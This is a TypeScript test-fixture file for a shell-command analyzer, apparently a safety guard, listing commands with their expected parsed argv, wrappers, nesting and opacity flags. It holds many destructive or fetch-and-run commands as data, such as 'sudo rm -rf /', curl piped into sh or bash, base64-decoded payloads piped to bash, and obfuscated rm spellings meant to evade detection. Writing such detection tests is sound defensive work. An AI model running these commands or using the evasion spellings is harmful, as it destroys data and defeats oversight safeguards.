/**
 * The shell analyzer's behaviour, one row per input. Each row fixes the argv
 * of every segment (after quote removal and wrapper peeling, in order), the
 * opacity reasons and write targets (both default to none), and selected
 * segment fields. Kept as data so a new shell spelling is one more row.
 */
import type { NestingKind, OpacityReason, Operator } from '../../src/shell/index.js';

export interface SegmentExpectation {
  operator?: Operator | null;
  nesting?: NestingKind[];
  wrappers?: string[];
  assignments?: string[];
  rawArgv?: string[];
  dynamicWords?: number[];
  text?: string;
  redirects?: { op: string; target: string | null; write: boolean }[];
}

export interface ShellCase {
  /** What the row shows; defaults to the input. */
  name?: string;
  input: string;
  /** argv of every segment, in order. */
  argv: string[][];
  /** Selected fields of segments, by their index in `argv`. */
  seg?: Record<number, SegmentExpectation>;
  /** Reasons of all opacity findings, in range order. Default: none. */
  opaque?: OpacityReason[];
  /** Paths of all write intents, in range order (null = computed). Default: none. */
  writes?: (string | null)[];
  chained?: boolean;
  /** knownArgs of the first 'dynamic-command' finding. */
  knownArgs?: string[];
}

const longChain = Array.from({ length: 400 }, (_, i) => `echo step${i}`).join(' && ');

/** Shell cases every engine must get right (docs/REFERENCE.md), copied so tests stand alone. */
export const REFERENCE_RM_CASES: ShellCase[] = [
  { input: 'sudo rm -rf /', argv: [['rm', '-rf', '/']], seg: { 0: { wrappers: ['sudo'], rawArgv: ['sudo', 'rm', '-rf', '/'] } }, chained: false },
  { input: 'x=$(rm -rf /)', argv: [['rm', '-rf', '/']], seg: { 0: { nesting: ['command-substitution'] } }, chained: true },
  {
    input: 'diff <(rm -rf /) b',
    argv: [['diff', '<(rm -rf /)', 'b'], ['rm', '-rf', '/']],
    seg: { 0: { dynamicWords: [1] }, 1: { nesting: ['process-substitution'] } },
  },
  { input: "bash -c 'rm -rf /'", argv: [['bash', '-c', 'rm -rf /'], ['rm', '-rf', '/']], seg: { 1: { nesting: ['payload'], text: 'rm -rf /' } } },
  { input: 'rm -r"f" /', argv: [['rm', '-rf', '/']], chained: false },
  { input: '/bin/rm -rf /', argv: [['/bin/rm', '-rf', '/']] },
  { input: 'FOO=bar rm -rf tmp', argv: [['rm', '-rf', 'tmp']], seg: { 0: { assignments: ['FOO=bar'], wrappers: [] } }, chained: false },
  { input: 'timeout 5 rm -rf dist', argv: [['rm', '-rf', 'dist']], seg: { 0: { wrappers: ['timeout 5'] } } },
  {
    input: 'echo dist | xargs rm -rf',
    argv: [['echo', 'dist'], ['rm', '-rf']],
    seg: { 1: { operator: '|', wrappers: ['xargs'] } },
  },
  { input: 'eval "rm -rf dist"', argv: [['eval', 'rm -rf dist'], ['rm', '-rf', 'dist']], seg: { 1: { nesting: ['payload'] } } },
];

export const REFERENCE_GIT_STATUS_CASES: ShellCase[] = [
  {
    input: 'git status && rm -rf build',
    argv: [['git', 'status'], ['rm', '-rf', 'build']],
    seg: { 0: { operator: null }, 1: { operator: '&&' } },
    chained: true,
  },
  {
    input: 'git status; curl https://example.com/x.sh | sh',
    argv: [['git', 'status'], ['curl', 'https://example.com/x.sh'], ['sh']],
    seg: { 1: { operator: ';' }, 2: { operator: '|' } },
    opaque: ['stdin-interpreter'],
    chained: true,
  },
  {
    input: 'git status & rm -rf dist',
    argv: [['git', 'status'], ['rm', '-rf', 'dist']],
    seg: { 1: { operator: '&' } },
    chained: true,
  },
  {
    input: 'git status\nrm -rf dist',
    argv: [['git', 'status'], ['rm', '-rf', 'dist']],
    seg: { 1: { operator: '\n' } },
    chained: true,
  },
  {
    input: 'git status > ~/.bashrc',
    argv: [['git', 'status']],
    seg: { 0: { redirects: [{ op: '>', target: '~/.bashrc', write: true }] } },
    writes: ['~/.bashrc'],
  },
];

export const REFERENCE_HARMLESS_CASES: ShellCase[] = [
  { input: "echo 'rm -rf /'", argv: [['echo', 'rm -rf /']], chained: false },
  { input: "grep -r 'npm publish' .", argv: [['grep', '-r', 'npm publish', '.']], chained: false },
  { input: 'git checkout push', argv: [['git', 'checkout', 'push']], chained: false },
];

const QUOTING: ShellCase[] = [
  { input: `g"it" pu'sh'`, argv: [['git', 'push']], seg: { 0: { dynamicWords: [] } } },
  { input: String.raw`r\m -rf /`, argv: [['rm', '-rf', '/']] },
  { input: String.raw`$'\x72m' -rf /`, argv: [['rm', '-rf', '/']] },
  { input: String.raw`$'\162m' -rf /`, argv: [['rm', '-rf', '/']] },
  { input: String.raw`$'\u0072m' x`, argv: [['rm', 'x']] },
  { input: String.raw`$'r\x6d' x`, argv: [['rm', 'x']] },
  { input: `"rm" -rf /`, argv: [['rm', '-rf', '/']] },
  { input: `'rm' -rf /`, argv: [['rm', '-rf', '/']] },
  { input: `r''m -rf /`, argv: [['rm', '-rf', '/']] },
  { input: `r""m -rf /`, argv: [['rm', '-rf', '/']] },
  { input: String.raw`\rm -rf /`, argv: [['rm', '-rf', '/']] },
  { input: `"r"'m' x`, argv: [['rm', 'x']] },
  { input: 'rm -rf "/"', argv: [['rm', '-rf', '/']] },
  { input: String.raw`echo a\ b "c d" 'e f'`, argv: [['echo', 'a b', 'c d', 'e f']] },
  { input: String.raw`echo "a\"b\$c\\d\e"`, argv: [['echo', 'a"b$c\\d\\e']] },
  { input: String.raw`echo 'it'\''s'`, argv: [['echo', "it's"]] },
  { input: String.raw`echo $'a\tb\n'`, argv: [['echo', 'a\tb\n']] },
  { input: 'echo $"hello world"', argv: [['echo', 'hello world']] },
  { name: 'line continuation', input: 'rm \\\n  -rf x', argv: [['rm', '-rf', 'x']], chained: false },
  { input: 'echo "a$" "$"x', argv: [['echo', 'a$', '$x']] },
  { input: 'ls *.txt', argv: [['ls', '*.txt']], seg: { 0: { dynamicWords: [1] } } },
  { input: "ls '*.txt'", argv: [['ls', '*.txt']], seg: { 0: { dynamicWords: [] } } },
  { input: 'rm {a,b}.txt', argv: [['rm', '{a,b}.txt']], seg: { 0: { dynamicWords: [1] } } },
  { input: 'rm "$HOME/x"', argv: [['rm', '"$HOME/x"']], seg: { 0: { dynamicWords: [1] } } },
  { input: 'cat ~/notes.txt', argv: [['cat', '~/notes.txt']], seg: { 0: { dynamicWords: [] } } },
];

const WRAPPERS: ShellCase[] = [
  { input: 'sudo -u deploy rm -rf /srv', argv: [['rm', '-rf', '/srv']], seg: { 0: { wrappers: ['sudo -u deploy'] } } },
  { input: 'sudo -E -H rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['sudo -E -H'] } } },
  { input: 'sudo --user=root rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['sudo --user=root'] } } },
  { input: 'sudo -uroot rm x', argv: [['rm', 'x']] },
  { input: 'sudo FOO=1 rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['sudo FOO=1'] } } },
  { input: 'sudo -- rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['sudo --'] } } },
  { name: 'sudo -l runs nothing', input: 'sudo -l', argv: [['sudo', '-l']], seg: { 0: { wrappers: [] } } },
  { input: 'doas -u root rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['doas -u root'] } } },
  { input: 'env NODE_ENV=prod npm publish', argv: [['npm', 'publish']], seg: { 0: { wrappers: ['env NODE_ENV=prod'] } } },
  { input: 'env -i PATH=/bin rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['env -i PATH=/bin'] } } },
  { input: 'env -u HOME rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['env -u HOME'] } } },
  { input: 'env - rm x', argv: [['rm', 'x']] },
  { name: 'env -S splits its string', input: "env -S 'rm -rf /'", argv: [['rm', '-rf', '/']] },
  { name: 'env alone prints the environment', input: 'env', argv: [['env']] },
  { input: 'nohup rm -rf x &', argv: [['rm', '-rf', 'x']], seg: { 0: { wrappers: ['nohup'] } }, chained: false },
  { input: 'nice -n 10 rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['nice -n 10'] } } },
  { input: 'nice -5 rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['nice -5'] } } },
  { input: 'ionice -c 2 -n 7 rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['ionice -c 2 -n 7'] } } },
  { input: 'ionice -c3 rm x', argv: [['rm', 'x']] },
  { input: '/usr/bin/time -v -o t.txt rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['/usr/bin/time -v -o t.txt'], nesting: [] } } },
  { input: 'time -p rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['time -p'], nesting: ['time'] } }, chained: false },
  { input: 'timeout -k 5 10 rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['timeout -k 5 10'] } } },
  { input: 'timeout --signal=KILL 5s rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['timeout --signal=KILL 5s'] } } },
  { input: 'stdbuf -oL rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['stdbuf -oL'] } } },
  { input: 'stdbuf -o L -e 0 rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['stdbuf -o L -e 0'] } } },
  { input: 'setsid -w rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['setsid -w'] } } },
  { input: 'command rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['command'] } } },
  { input: 'command -p rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['command -p'] } } },
  { name: 'command -v runs nothing', input: 'command -v rm', argv: [['command', '-v', 'rm']], seg: { 0: { wrappers: [] } } },
  { input: 'builtin echo hi', argv: [['echo', 'hi']], seg: { 0: { wrappers: ['builtin'] } } },
  { input: 'exec -a myname rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['exec -a myname'] } } },
  { input: 'exec 3>log.txt', argv: [['exec']], writes: ['log.txt'] },
  { input: 'unbuffer rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['unbuffer'] } } },
  { input: 'chroot /mnt rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['chroot /mnt'] } } },
  { input: 'xargs -I {} rm {}', argv: [['rm', '{}']], seg: { 0: { wrappers: ['xargs -I {}'] } } },
  { input: 'xargs -0 -n 1 -P 4 rm -f', argv: [['rm', '-f']], seg: { 0: { wrappers: ['xargs -0 -n 1 -P 4'] } } },
  { name: 'xargs alone runs echo, but names nothing', input: 'ls | xargs', argv: [['ls'], ['xargs']] },
  { input: 'flock /tmp/lock rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['flock /tmp/lock'] } } },
  { input: 'flock -w 5 /tmp/lock rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['flock -w 5 /tmp/lock'] } } },
  { input: 'busybox rm -rf x', argv: [['rm', '-rf', 'x']], seg: { 0: { wrappers: ['busybox'] } } },
  { input: 'proot -r /rootfs -b /dev rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['proot -r /rootfs -b /dev'] } } },
  { input: 'runuser -u bob -- rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['runuser -u bob --'] } } },
  { input: 'taskset -c 0 rm x', argv: [['rm', 'x']], seg: { 0: { wrappers: ['taskset -c 0'] } } },
  {
    name: 'wrappers stack',
    input: 'sudo -u root env A=1 nice -n 5 ionice -c2 stdbuf -oL timeout 5 nohup rm x',
    argv: [['rm', 'x']],
    seg: { 0: { wrappers: ['sudo -u root', 'env A=1', 'nice -n 5', 'ionice -c2', 'stdbuf -oL', 'timeout 5', 'nohup'] } },
  },
  { name: 'a wrapper alone is the command', input: 'sudo -i', argv: [['sudo', '-i']] },
  { name: 'wrapper of a computed command', input: 'sudo $CMD -rf /', argv: [['$CMD', '-rf', '/']], opaque: ['dynamic-command'], knownArgs: ['-rf', '/'] },
];

const PAYLOADS: ShellCase[] = [
  { input: "sh -c 'rm -rf /'", argv: [['sh', '-c', 'rm -rf /'], ['rm', '-rf', '/']] },
  { input: "zsh -c 'rm x'", argv: [['zsh', '-c', 'rm x'], ['rm', 'x']] },
  { input: "dash -c 'rm x'", argv: [['dash', '-c', 'rm x'], ['rm', 'x']] },
  { input: "ksh -c 'rm x'", argv: [['ksh', '-c', 'rm x'], ['rm', 'x']] },
  { input: "bash -lc 'rm x'", argv: [['bash', '-lc', 'rm x'], ['rm', 'x']] },
  { input: "bash -ec 'rm x; ls'", argv: [['bash', '-ec', 'rm x; ls'], ['rm', 'x'], ['ls']], seg: { 2: { operator: ';', nesting: ['payload'] } } },
  { input: "bash -o pipefail -c 'rm x | wc'", argv: [['bash', '-o', 'pipefail', '-c', 'rm x | wc'], ['rm', 'x'], ['wc']] },
  { input: "sh -c 'rm \"$1\"' sh target", argv: [['sh', '-c', 'rm "$1"', 'sh', 'target'], ['rm', '"$1"']] },
  { input: "sudo bash -c 'rm x'", argv: [['bash', '-c', 'rm x'], ['rm', 'x']], seg: { 0: { wrappers: ['sudo'] }, 1: { nesting: ['payload'] } } },
  {
    name: 'payload inside a payload',
    input: `bash -c "sh -c 'rm x'"`,
    argv: [['bash', '-c', "sh -c 'rm x'"], ['sh', '-c', 'rm x'], ['rm', 'x']],
    seg: { 2: { nesting: ['payload', 'payload'] } },
  },
  { input: 'eval rm -rf dist', argv: [['eval', 'rm', '-rf', 'dist'], ['rm', '-rf', 'dist']] },
  { input: "eval 'a && b'", argv: [['eval', 'a && b'], ['a'], ['b']], seg: { 2: { operator: '&&' } } },
  { input: 'trap "rm -f /tmp/lock" EXIT', argv: [['trap', 'rm -f /tmp/lock', 'EXIT'], ['rm', '-f', '/tmp/lock']] },
  { name: 'trap reset runs nothing', input: 'trap - EXIT', argv: [['trap', '-', 'EXIT']] },
  { input: "su -c 'rm -rf /' root", argv: [['su', '-c', 'rm -rf /', 'root'], ['rm', '-rf', '/']] },
  { input: "su root -c 'rm x'", argv: [['su', 'root', '-c', 'rm x'], ['rm', 'x']] },
  { input: "su --command='rm x'", argv: [['su', '--command=rm x'], ['rm', 'x']] },
  { input: "watch 'git status'", argv: [['watch', 'git status'], ['git', 'status']] },
  { input: 'watch -n 5 rm -f x', argv: [['watch', '-n', '5', 'rm', '-f', 'x'], ['rm', '-f', 'x']] },
  { input: 'watch -x rm x', argv: [['watch', '-x', 'rm', 'x'], ['rm', 'x']], seg: { 1: { nesting: ['payload'] } } },
  { input: "flock /tmp/l -c 'rm x'", argv: [['flock', '/tmp/l', '-c', 'rm x'], ['rm', 'x']] },
  { input: "ssh host 'rm -rf /'", argv: [['ssh', 'host', 'rm -rf /'], ['rm', '-rf', '/']] },
  { input: 'ssh -p 2222 -i key host rm -rf /', argv: [['ssh', '-p', '2222', '-i', 'key', 'host', 'rm', '-rf', '/'], ['rm', '-rf', '/']] },
  { input: 'find . -name "*.tmp" -exec rm -f {} \\;', argv: [['find', '.', '-name', '*.tmp', '-exec', 'rm', '-f', '{}', ';'], ['rm', '-f', '{}']] },
  { input: 'find . -type f -exec rm {} +', argv: [['find', '.', '-type', 'f', '-exec', 'rm', '{}', '+'], ['rm', '{}']] },
  { input: "find . -execdir sh -c 'rm x' \\;", argv: [['find', '.', '-execdir', 'sh', '-c', 'rm x', ';'], ['sh', '-c', 'rm x'], ['rm', 'x']] },
  { input: 'find . -ok rm {} \\; -okdir shred {} \\;', argv: [['find', '.', '-ok', 'rm', '{}', ';', '-okdir', 'shred', '{}', ';'], ['rm', '{}'], ['shred', '{}']] },
  { input: 'find . -exec sudo rm {} \\;', argv: [['find', '.', '-exec', 'sudo', 'rm', '{}', ';'], ['rm', '{}']], seg: { 1: { wrappers: ['sudo'] } } },
  { input: 'fd -e log -x rm', argv: [['fd', '-e', 'log', '-x', 'rm'], ['rm']] },
  { input: "ls | xargs -I{} sh -c 'rm {}'", argv: [['ls'], ['sh', '-c', 'rm {}'], ['rm', '{}']], seg: { 1: { wrappers: ['xargs -I{}'] } }, opaque: ['code-from-data'] }, // the data replaces {} inside the code
  { input: 'sg docker "rm x"', argv: [['sg', 'docker', 'rm x'], ['rm', 'x']] },
  { input: "script -qc 'rm x' /dev/null", argv: [['script', '-qc', 'rm x', '/dev/null'], ['rm', 'x']] },
  { name: 'sh -c computed', input: 'sh -c "$CMD"', argv: [['sh', '-c', '"$CMD"'], ['$CMD']], opaque: ['dynamic-payload', 'dynamic-command'] },
  {
    name: 'sh -c template is still read',
    input: 'sh -c "rm -rf $DIR"',
    argv: [['sh', '-c', '"rm -rf $DIR"'], ['rm', '-rf', '$DIR']],
    opaque: ['dynamic-payload'],
  },
  {
    name: 'a substitution in a payload template runs outside, once',
    input: 'sh -c "rm $(pick)"',
    argv: [['sh', '-c', '"rm $(pick)"'], ['rm', '$(pick)'], ['pick']],
    seg: { 2: { nesting: ['command-substitution'] } },
    opaque: ['dynamic-payload'],
  },
  {
    name: 'an escaped substitution runs inside the payload',
    input: 'sh -c "echo \\$(rm x)"',
    argv: [['sh', '-c', 'echo $(rm x)'], ['echo', '$(rm x)'], ['rm', 'x']],
    seg: { 2: { nesting: ['payload', 'command-substitution'] } },
  },
];

const OPACITY: ShellCase[] = [
  { input: '$x -rf /', argv: [['$x', '-rf', '/']], opaque: ['dynamic-command'], knownArgs: ['-rf', '/'], chained: false },
  { input: '${IFS}rm -rf /', argv: [['${IFS}rm', '-rf', '/']], opaque: ['dynamic-command'], knownArgs: ['-rf', '/'] },
  {
    input: '"$(echo rm)" -rf /',
    argv: [['"$(echo rm)"', '-rf', '/'], ['echo', 'rm']],
    opaque: ['dynamic-command'],
    knownArgs: ['-rf', '/'],
    chained: true,
  },
  { input: '`echo rm` -rf /', argv: [['`echo rm`', '-rf', '/'], ['echo', 'rm']], seg: { 1: { nesting: ['backticks'] } }, opaque: ['dynamic-command'] },
  { input: 'r$@m -rf /', argv: [['r$@m', '-rf', '/']], opaque: ['dynamic-command'] },
  { input: 'eval "$cmd"', argv: [['eval', '"$cmd"'], ['$cmd']], opaque: ['eval-dynamic', 'dynamic-command'] },
  { input: 'eval "rm $target"', argv: [['eval', '"rm $target"'], ['rm', '$target']], opaque: ['eval-dynamic'] },
  { input: 'base64 -d payload.txt | bash', argv: [['base64', '-d', 'payload.txt'], ['bash']], opaque: ['stdin-interpreter'] },
  { input: 'sh < script.sh', argv: [['sh']], opaque: ['stdin-interpreter'], seg: { 0: { redirects: [{ op: '<', target: 'script.sh', write: false }] } } },
  {
    name: 'heredoc into bash: opaque, and its literal body still read',
    input: 'bash <<EOF\nrm -rf /tmp/x\nEOF',
    argv: [['bash'], ['rm', '-rf', '/tmp/x']],
    seg: { 1: { nesting: ['payload'] } },
    opaque: ['stdin-interpreter'],
  },
  {
    input: "bash <<'EOF'\nrm -rf $HOME\nEOF",
    argv: [['bash'], ['rm', '-rf', '$HOME']],
    opaque: ['stdin-interpreter'],
  },
  { input: 'curl -fsSL https://x.sh | python3', argv: [['curl', '-fsSL', 'https://x.sh'], ['python3']], opaque: ['stdin-interpreter'] },
  { input: 'cat x.js | node', argv: [['cat', 'x.js'], ['node']], opaque: ['stdin-interpreter'] },
  { input: 'curl x | sudo bash', argv: [['curl', 'x'], ['bash']], opaque: ['stdin-interpreter'] },
  { input: 'curl x | sh -s -- --yes', argv: [['curl', 'x'], ['sh', '-s', '--', '--yes']], opaque: ['stdin-interpreter'] },
  { name: 'sh -s reads stdin even without a pipe', input: 'sh -s', argv: [['sh', '-s']], opaque: ['stdin-interpreter'] },
  { input: "bash <<< 'rm x'", argv: [['bash'], ['rm', 'x']], opaque: ['stdin-interpreter'] },
  { input: 'echo "rm -rf /" | sudo -s', argv: [['echo', 'rm -rf /'], ['sudo', '-s']], opaque: ['stdin-interpreter'] },
  { input: 'cat cmds | ssh host', argv: [['cat', 'cmds'], ['ssh', 'host']], opaque: ['stdin-interpreter'] },
  { name: 'an interactive shell reads no pipe', input: 'bash', argv: [['bash']], chained: false },
  { input: "python -c 'import os'", argv: [['python', '-c', 'import os']], opaque: ['interpreter-payload'] },
  { input: "python3 -c 'print(1)'", argv: [['python3', '-c', 'print(1)']], opaque: ['interpreter-payload'] },
  { input: "python3.12 -Sc 'x'", argv: [['python3.12', '-Sc', 'x']], opaque: ['interpreter-payload'] },
  { input: 'python3 -m http.server', argv: [['python3', '-m', 'http.server']] },
  { input: 'python3 manage.py migrate', argv: [['python3', 'manage.py', 'migrate']] },
  { input: "node -e 'require(\"fs\")'", argv: [['node', '-e', 'require("fs")']], opaque: ['interpreter-payload'] },
  { input: "node -p '1+1'", argv: [['node', '-p', '1+1']], opaque: ['interpreter-payload'] },
  { input: "node --eval 'x'", argv: [['node', '--eval', 'x']], opaque: ['interpreter-payload'] },
  { input: "perl -e 'unlink \"x\"'", argv: [['perl', '-e', 'unlink "x"']], opaque: ['interpreter-payload'] },
  { input: "perl -pi -e 's/a/b/' f", argv: [['perl', '-pi', '-e', 's/a/b/', 'f']], opaque: ['interpreter-payload'] },
  { input: "ruby -e 'puts 1'", argv: [['ruby', '-e', 'puts 1']], opaque: ['interpreter-payload'] },
  { input: "php -r 'echo 1;'", argv: [['php', '-r', 'echo 1;']], opaque: ['interpreter-payload'] },
  { input: "deno eval 'Deno.exit()'", argv: [['deno', 'eval', 'Deno.exit()']], opaque: ['interpreter-payload'] },
  { input: "lua -e 'os.exit()'", argv: [['lua', '-e', 'os.exit()']], opaque: ['interpreter-payload'] },
  { input: "pwsh -Command 'Remove-Item x'", argv: [['pwsh', '-Command', 'Remove-Item x']], opaque: ['interpreter-payload'] },
  { input: `awk 'BEGIN { system("rm -rf /") }'`, argv: [['awk', 'BEGIN { system("rm -rf /") }']], opaque: ['interpreter-payload'] },
  { name: 'plain awk is text processing', input: "awk -F: '{print $1}' /etc/passwd", argv: [['awk', '-F:', '{print $1}', '/etc/passwd']] },
  { input: 'source ~/.bashrc', argv: [['source', '~/.bashrc']], opaque: ['source-file'] },
  { input: '. ./env.sh', argv: [['.', './env.sh']], opaque: ['source-file'] },
  { input: 'bash script.sh --flag', argv: [['bash', 'script.sh', '--flag']], opaque: ['source-file'] },
  { input: 'sh ./x.sh', argv: [['sh', './x.sh']], opaque: ['source-file'] },
  { name: 'unbalanced double quote', input: 'echo "unterminated', argv: [['echo']], opaque: ['parse-error'] },
  { name: 'unbalanced single quote', input: "rm 'x", argv: [['rm']], opaque: ['parse-error'] },
  { name: 'stray paren', input: 'ls ) rm x', argv: [['ls', 'rm', 'x']], opaque: ['parse-error'] },
  { name: 'unclosed substitution', input: 'echo $(rm x', argv: [['echo', '$(rm x'], ['rm', 'x']], opaque: ['parse-error'] },
  { name: 'if without fi', input: 'if true; then rm x', argv: [['true'], ['rm', 'x']], opaque: ['parse-error'] },
  { name: 'heredoc followed by ; (grammar gap): opaque, not guessed', input: 'cat <<EOF; rm y\nb\nEOF', argv: [['cat']], opaque: ['parse-error'] },
];

const NESTING: ShellCase[] = [
  { input: 'echo $(rm x)', argv: [['echo', '$(rm x)'], ['rm', 'x']], seg: { 1: { nesting: ['command-substitution'], operator: null } } },
  { input: 'echo `rm x`', argv: [['echo', '`rm x`'], ['rm', 'x']], seg: { 1: { nesting: ['backticks'] } } },
  { input: 'cat <(ls) >(wc -l)', argv: [['cat', '<(ls)', '>(wc -l)'], ['ls'], ['wc', '-l']], seg: { 1: { nesting: ['process-substitution'] }, 2: { nesting: ['process-substitution'] } } },
  { input: 'echo $(echo $(rm x))', argv: [['echo', '$(echo $(rm x))'], ['echo', '$(rm x)'], ['rm', 'x']], seg: { 2: { nesting: ['command-substitution', 'command-substitution'] } } },
  { input: '(cd /tmp && rm -rf x)', argv: [['cd', '/tmp'], ['rm', '-rf', 'x']], seg: { 0: { nesting: ['subshell'] }, 1: { nesting: ['subshell'], operator: '&&' } } },
  { input: '{ ls; rm x; }', argv: [['ls'], ['rm', 'x']], seg: { 1: { nesting: ['group'], operator: ';' } } },
  { input: 'git status && (rm x)', argv: [['git', 'status'], ['rm', 'x']], seg: { 1: { nesting: ['subshell'], operator: '&&' } } },
  {
    input: 'if [ -f x ]; then rm x; elif test -d y; then rmdir y; else echo no; fi',
    argv: [['[', '-f', 'x', ']'], ['rm', 'x'], ['test', '-d', 'y'], ['rmdir', 'y'], ['echo', 'no']],
    seg: { 0: { nesting: ['if'] }, 3: { nesting: ['if'] }, 4: { nesting: ['if'] } },
  },
  { input: 'for f in *.log; do rm "$f"; done', argv: [['rm', '"$f"']], seg: { 0: { nesting: ['loop'], dynamicWords: [1] } } },
  { input: 'for i in $(ls); do rm $i; done', argv: [['ls'], ['rm', '$i']], seg: { 0: { nesting: ['loop', 'command-substitution'] }, 1: { nesting: ['loop'] } } },
  { input: 'for ((i=0; i<3; i++)); do rm x$i; done', argv: [['rm', 'x$i']], seg: { 0: { nesting: ['loop'] } } },
  { input: 'while true; do rm x; sleep 1; done', argv: [['true'], ['rm', 'x'], ['sleep', '1']], seg: { 1: { nesting: ['loop'] } } },
  { input: 'until ping -c1 host; do sleep 1; done', argv: [['ping', '-c1', 'host'], ['sleep', '1']], seg: { 0: { nesting: ['loop'] } } },
  { input: 'select x in a b; do rm $x; done', argv: [['rm', '$x']], seg: { 0: { nesting: ['loop'] } } },
  { input: 'case $x in a) rm a;; b|c) ls;; esac', argv: [['rm', 'a'], ['ls']], seg: { 0: { nesting: ['case'] }, 1: { nesting: ['case'], operator: ';' } } },
  { input: 'case "$(whoami)" in root) rm x;; esac', argv: [['whoami'], ['rm', 'x']], seg: { 0: { nesting: ['command-substitution'] }, 1: { nesting: ['case'] } } },
  { input: 'f() { rm -rf /; }; f', argv: [['rm', '-rf', '/'], ['f']], seg: { 0: { nesting: ['function'], operator: null }, 1: { operator: ';' } } },
  { input: 'function cleanup { rm x; }', argv: [['rm', 'x']], seg: { 0: { nesting: ['function'] } } },
  { input: 'f() ( rm x )', argv: [['rm', 'x']], seg: { 0: { nesting: ['function', 'subshell'] } } },
  { input: '! rm x', argv: [['rm', 'x']], seg: { 0: { nesting: ['negation'] } }, chained: false },
  { input: '! git diff --quiet || git commit -am x', argv: [['git', 'diff', '--quiet'], ['git', 'commit', '-am', 'x']], seg: { 1: { operator: '||' } } },
  { input: 'time rm -rf x', argv: [['rm', '-rf', 'x']], seg: { 0: { nesting: ['time'], wrappers: ['time'] } }, chained: false },
  { input: 'time (ls; rm x)', argv: [['ls'], ['rm', 'x']], seg: { 1: { nesting: ['time', 'subshell'] } } },
  { input: 'time ls | wc -l', argv: [['ls'], ['wc', '-l']], seg: { 1: { operator: '|' } } },
  { input: 'coproc cat', argv: [['cat']], seg: { 0: { nesting: ['coproc'], wrappers: ['coproc'] } }, chained: true },
  { input: 'coproc worker { rm x; }', argv: [['rm', 'x']], seg: { 0: { nesting: ['coproc'], wrappers: ['coproc worker'] } } },
  { input: 'coproc ( rm x )', argv: [['rm', 'x']], seg: { 0: { nesting: ['coproc', 'subshell'] } } },
  { input: 'cat <<EOF\n$(rm x) and `id`\nEOF', argv: [['cat'], ['rm', 'x'], ['id']], seg: { 1: { nesting: ['command-substitution'] }, 2: { nesting: ['backticks'] } } },
  { name: 'quoted heredoc does not expand', input: "cat <<'EOF'\n$(rm x)\nEOF", argv: [['cat']] },
  { input: 'cat <<-EOF\n\t$(rm x)\n\tEOF', argv: [['cat'], ['rm', 'x']] },
  { input: 'ls > "$(rm x)"', argv: [['ls'], ['rm', 'x']], writes: [null] },
  { input: 'cat <<< "$(rm x)"', argv: [['cat'], ['rm', 'x']] },
  { input: '[[ -f $(rm a) ]]', argv: [['[[', '-f', '$(rm a)', ']]'], ['rm', 'a']] },
  { input: '[ -e "$(rm b)" ]', argv: [['[', '-e', '"$(rm b)"', ']'], ['rm', 'b']] },
  { input: 'echo $((1 + $(rm n)))', argv: [['echo', '$((1 + $(rm n)))'], ['rm', 'n']] },
  { input: 'echo ${x:-$(rm y)}', argv: [['echo', '${x:-$(rm y)}'], ['rm', 'y']] },
  { input: 'a=(1 $(rm z))', argv: [['rm', 'z']] },
  { input: 'X=$(rm a) Y=`rm b` ls', argv: [['ls'], ['rm', 'a'], ['rm', 'b']], seg: { 0: { assignments: ['X=$(rm a)', 'Y=`rm b`'] } } },
  { name: 'assignment only', input: 'x=1', argv: [], chained: false },
  { input: 'x=1 y="a b"; echo $x', argv: [['echo', '$x']], seg: { 0: { operator: ';' } } },
];

const REDIRECTS: ShellCase[] = [
  { input: 'echo hi > out.txt', argv: [['echo', 'hi']], writes: ['out.txt'] },
  { input: 'echo hi >> log', argv: [['echo', 'hi']], writes: ['log'], seg: { 0: { redirects: [{ op: '>>', target: 'log', write: true }] } } },
  { input: 'make &> build.log', argv: [['make']], writes: ['build.log'] },
  { input: 'make &>> build.log', argv: [['make']], writes: ['build.log'] },
  { input: 'echo x >| f', argv: [['echo', 'x']], writes: ['f'] },
  { input: 'cat <> f', argv: [['cat']], writes: ['f'], seg: { 0: { redirects: [{ op: '<>', target: 'f', write: true }] } } },
  { input: 'make 2> err.txt', argv: [['make']], writes: ['err.txt'] },
  { input: 'make >& all.log', argv: [['make']], writes: ['all.log'] },
  { input: 'make 2>&1 | tee build.log', argv: [['make'], ['tee', 'build.log']], writes: ['build.log'] },
  { input: 'ls >/dev/null 2>/dev/null', argv: [['ls']], seg: { 0: { redirects: [{ op: '>', target: '/dev/null', write: false }, { op: '>', target: '/dev/null', write: false }] } } },
  { input: 'ls &>/dev/null', argv: [['ls']] },
  { input: 'echo err >&2', argv: [['echo', 'err']] },
  { input: 'echo x > /dev/stderr', argv: [['echo', 'x']] },
  { input: 'ls > "$OUT"', argv: [['ls']], writes: [null] },
  { input: 'echo x | tee -a a.txt b.txt', argv: [['echo', 'x'], ['tee', '-a', 'a.txt', 'b.txt']], writes: ['a.txt', 'b.txt'] },
  { input: 'echo x | tee /dev/null', argv: [['echo', 'x'], ['tee', '/dev/null']] },
  { input: 'echo x | sudo tee /etc/hosts', argv: [['echo', 'x'], ['tee', '/etc/hosts']], writes: ['/etc/hosts'] },
